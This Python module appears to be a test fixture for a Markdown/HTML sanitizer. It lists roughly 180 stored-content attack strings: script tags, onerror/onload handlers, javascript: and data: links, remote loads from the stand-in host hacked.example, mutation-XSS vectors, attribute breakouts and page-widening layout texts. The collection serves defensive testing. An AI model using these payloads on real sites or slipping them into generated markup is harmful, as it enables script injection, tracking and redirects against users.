"""Texts that strangers might store, each of which does something where it is put on a page as it is.

An attack shows itself: it calls ``hacked()``, asks the host hacked.example for something, or makes the page wider than
the window. ``MARKUP`` does so as HTML or as Markdown, ``BREAKOUT`` inside an attribute or an element around it,
``LAYOUT`` as mere text.
"""

WORD = "W" * 5000
FAR = "https://hacked.example"
RUN = "hacked()"


def attacks(**kinds):
    """{(kind, name): text}; the name is the attack itself, shortened."""
    return {
        f"{kind}-{number}-{' '.join(text.split())[:40]}": (kind, text)
        for kind, texts in kinds.items()
        for number, text in enumerate(texts)
    }


SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\n>{RUN}</script\n>",
    f"<div>\n<script/x>{RUN}</script>",
    f"<script src={FAR}/x.js></script>",
    "<script src=//hacked.example/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script async defer>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={FAR}/x.js></script></svg>",
    f"<script>/*&lt;*/{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"a<script>{RUN}</script>b",
    f"**<script>{RUN}</script>**",
    f"> <script>{RUN}</script>",
    f"- <script>{RUN}</script>",
    f"# <script>{RUN}</script>",
    f"| a |\n|---|\n| <script>{RUN}</script> |",
    f"[<script>{RUN}</script>](https://a.example)",
    f"\\[ <script>{RUN}</script> \\]",
    f"$$<script>{RUN}</script>$$",
    f"<script>{RUN}</script>\u0000",
    f"\ud800<script>{RUN}</script>",
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x: onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}">',
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<div>\n<img/src=x/onerror={RUN}>",
    f"<img\tsrc=x\nonerror={RUN}>",
    "<img src=x onerror=&#104;acked()>",
    "<img src=x onerror=h&#x61;cked()>",
    f"<svg onload={RUN}>",
    f"<div>\n<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<object data=x onerror={RUN}></object>",
    f"<embed src=x onerror={RUN}>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<style onload={RUN}></style>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=# onmouseover={RUN}>x</a>",
    f"<p onpointerenter={RUN}>x</p>",
    f"<div style='position:fixed;inset:0' onmousemove={RUN}>x</div>",
    f"<p tabindex=1 onfocusin={RUN}>x</p>",
    f"<x onclick={RUN}>x</x>",
    f"<table background=x onmouseover={RUN}><tr><td>x</table>",
    f"<b onanimationstart={RUN} style='animation:x 1s'>x</b>",
    f"<form onsubmit={RUN}><input type=submit></form>",
    f"<dialog open oncancel={RUN}>x</dialog>",
    f"<details ontoggle={RUN}><summary>x</summary></details>",
]

ADDRESSES = [
    f"[x](javascript:{RUN})",
    f"[x](JavaScript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](java&Tab;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A;avascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=hacked()>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](ms-word:ofe|u|https://a.example/x.docx)",
    "[x](tel:+123456789)",
    "[x](/admin/logout/)",
    "[x](//hacked.example/)",
    "[x](../../../delete/)",
    f"[x](javascript://a.example/%0a{RUN})",
    f"[![x](x)](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href=\x01javascript:{RUN}>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"<a href=https://a.example target=_self ping={FAR}>x</a>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
    f"<math><mi href=javascript:{RUN}>x</mi></math>",
    f"<form action=javascript:{RUN}><input type=submit></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<area href=javascript:{RUN}>",
]

FETCHES = [
    f"![x]({FAR}/a.png)",
    "![x](//hacked.example/a.png)",
    f'![x]({FAR}/a.png "title")',
    f"![x](<{FAR}/a.png>)",
    f"[![x]({FAR}/a.png)](https://a.example)",
    f"| a |\n|---|\n| ![x]({FAR}/a.png) |",
    f"# ![x]({FAR}/a.png)",
    f"<img src={FAR}/a.png>",
    f"<img srcset='{FAR}/a.png 1x'>",
    f"<picture><source srcset={FAR}/a.png><img></picture>",
    f"<image src={FAR}/a.png>",
    f"<input type=image src={FAR}/a.png>",
    f"<video poster={FAR}/a.png></video>",
    f"<video src={FAR}/a.mp4 autoplay></video>",
    f"<audio src={FAR}/a.mp3 preload=auto></audio>",
    f"<link rel=stylesheet href={FAR}/a.css>",
    f"<link rel=preload as=image href={FAR}/a.png>",
    f"<link rel=icon href={FAR}/a.png>",
    f"<style>@import '{FAR}/a.css';</style>",
    f"<style>body{{background:url({FAR}/a.png)}}</style>",
    f"<p style='background:url({FAR}/a.png)'>x</p>",
    f"<p style='list-style:url({FAR}/a.png);display:list-item'>x</p>",
    f"<table background={FAR}/a.png><tr><td>x</table>",
    f"<object type=image/png data={FAR}/a.png></object>",
    f"<svg><image href={FAR}/a.png /></svg>",
    f"<svg><use href={FAR}/a.svg#x /></svg>",
    f"<svg><filter id=f><feImage href={FAR}/a.png /></filter></svg>",
    f"<iframe src={FAR}/></iframe>",
    f"<object data={FAR}/a.html></object>",
    f"<embed src={FAR}/a.html>",
    f"<meta http-equiv=refresh content='0;url={FAR}/'>",
    f"<base href={FAR}/><img src=a.png>",
    f"<form action={FAR}/ method=post><input name=a><button>x</button></form>",
    f"<a data-aistore=earlier href={FAR}/>x</a>",
]

MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml ?><img src=x onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template><img src=x onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src=x>'>",
    f"<p id=aistore-find name=find>x</p><img src=x onerror={RUN}>",
    f"<img name=getElementById src=x onerror={RUN}>",
    f"`<img src=x onerror={RUN}>` <img src=x onerror={RUN}>",
    f"~~~\n~~~\n<img src=x onerror={RUN}>",
    f"<div>\n\n<img src=x onerror={RUN}>\n\n</div>",
    f"&lt;img src=x onerror={RUN}&gt;<img src=x onerror={RUN}>",
]

# In an attribute or inside an element: a title, a placeholder, the class of a language.
BREAKOUTS = [
    f'"><script>{RUN}</script>',
    f'"><img src=x onerror={RUN}>',
    f'" autofocus tabindex=1 onfocus={RUN} x="',
    f'" onmouseover={RUN} x="',
    f'" style=position:fixed;inset:0 onclick={RUN} x="',
    f'"><svg onload={RUN}>',
    f'"><iframe src={FAR}/></iframe>',
    f'"><img src={FAR}/a.png>',
    f'"></p></div></main><script>{RUN}</script>',
    f'</title><script>{RUN}</script>"><script>{RUN}</script>',
    f'</textarea>"><img src=x onerror={RUN}>',
    f'</summary></details>"><details open ontoggle={RUN}>',
    f'</code></pre>"><img src=x onerror={RUN}>',
    f'--><script>{RUN}</script>"><script>{RUN}</script>',
    f'``` "><img src=x onerror={RUN}>',
]

LAYOUTS = [
    WORD,
    "a_" * 2500,
    f"https://a.example/{WORD}",
    f"[{WORD}](https://a.example)",
    f"`{WORD}`",
    f"# {WORD}",
    f"- {WORD}",
    f"> {WORD}",
    f"$${WORD}^2$$",
    f"![{WORD}](https://a.example/{WORD})",
    "|" + " wide head |" * 80 + "\n|" + "---|" * 80 + "\n|" + f" {'w' * 40} |" * 80,
    f"| a |\n|---|\n| {WORD} |",
    "".join(f"{'> ' * depth}deep {WORD[:60]}\n" for depth in range(1, 60)),
    "".join(f"{'  ' * depth}- deep {WORD[:60]}\n" for depth in range(60)),
    f"\u202e{WORD}\u2066",
    "\u00a0".join(["unbreakable"] * 500),
    "W\u2060" * 2500,
    "\t".join("tab" for _ in range(500)) + WORD,
]

ATTACKS = attacks(
    markup=[*SCRIPTS, *HANDLERS, *ADDRESSES, *FETCHES, *MUTATIONS], breakout=BREAKOUTS, layout=LAYOUTS
)
